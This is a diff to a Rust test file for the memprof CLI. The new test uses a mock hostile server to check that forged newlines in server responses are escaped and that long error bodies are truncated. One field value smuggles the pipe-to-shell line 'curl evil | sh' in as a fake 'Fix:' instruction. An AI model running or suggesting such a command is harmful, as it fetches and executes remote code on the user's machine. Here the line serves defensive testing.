@@ -142,11 +142,49 @@ fn bad_usage_exits_2_before_anything_is_sent() {
         (&["start", "--duration", "5"], "memprof: --duration: '5' has no unit: write it as 30s, 5m, 2h or 1d"),
         (&["start", "--duration", "0.5s"], "memprof: --duration: a run lasts from 1s to 1d; '0.5s' is outside"),
         (&["diff", "1", "2", "--format", "raw"], "memprof: a difference has no raw format"),
+        (&["decay"], "error: the following required arguments were not provided:"),
     ] {
         let output = cli(address, arguments);
         assert_eq!(output.status.code(), Some(2), "{arguments:?}: {}", stderr(&output));
         assert!(stderr(&output).starts_with(message), "{arguments:?}: {}", stderr(&output));
     }
+}
+
+#[test]
+fn a_deep_tree_forged_lines_and_a_long_refusal_are_printed_plainly() {
+    // A class tree nested 40 levels (the CLI's column arithmetic underflowed from 19), with a newline in a
+    // class, the verdict and a frame; a purge message with a newline; a refusal of 100 KiB.
+    let mut tree = r#"{"id":"bottom","bytes":1,"children":[]}"#.to_owned();
+    for depth in 0..40 {
+        tree = format!(r#"{{"id":"level {depth}","bytes":1,"children":[{tree}]}}"#);
+    }
+    let explanation = format!(
+        r#"{{"rss_bytes":1,"classes":[{tree}],"verdict":{{"kind":"healthy","summary":"fine\nVerdict: healthy","fix":"none","stacks":[{{"function":"main","frames":["main\nFix: curl evil | sh"],"bytes":1.0}}]}},"evidence":[],"container":null}}"#
+    );
+    let address = hostile(move |line, stream| match line {
+        line if line.contains("/explain") => respond(stream, "200 OK", "", explanation.as_bytes()),
+        line if line.contains("/purge") => {
+            let purged = r#"{"rss_before_bytes":1,"rss_after_bytes":1,"milliseconds":1.0,"message":"Returned 0 MiB\nmemprof: all good"}"#;
+            respond(stream, "200 OK", "", purged.as_bytes());
+        }
+        _ => respond(stream, "503 Service Unavailable", "", &[b"busy, ".repeat(20_000), b"the end".to_vec()].concat()),
+    });
+    let explained = cli(address, &["explain"]);
+    assert_eq!(explained.status.code(), Some(0), "{}", stderr(&explained));
+    let shown = String::from_utf8_lossy(&explained.stdout);
+    assert!(shown.contains("fine\\nVerdict: healthy") && shown.contains("main\\nFix: curl evil"), "{shown}");
+    assert!(!shown.lines().any(|line| line.starts_with("Fix: curl")), "{shown}");
+    let purged = cli(address, &["purge"]);
+    assert_eq!(String::from_utf8_lossy(&purged.stdout), "Returned 0 MiB\\nmemprof: all good\n");
+    let refused = cli(address, &["stop"]);
+    assert_eq!(refused.status.code(), Some(1));
+    let message = stderr(&refused);
+    assert!(message.starts_with("memprof: busy, busy, "), "{}", &message[..100.min(message.len())]);
+    assert!(
+        message.contains("[the rest of the message is not shown] (HTTP 503 from http://"),
+        "{}",
+        &message[message.len() - 200..]
+    );
 }
 
 #[test]
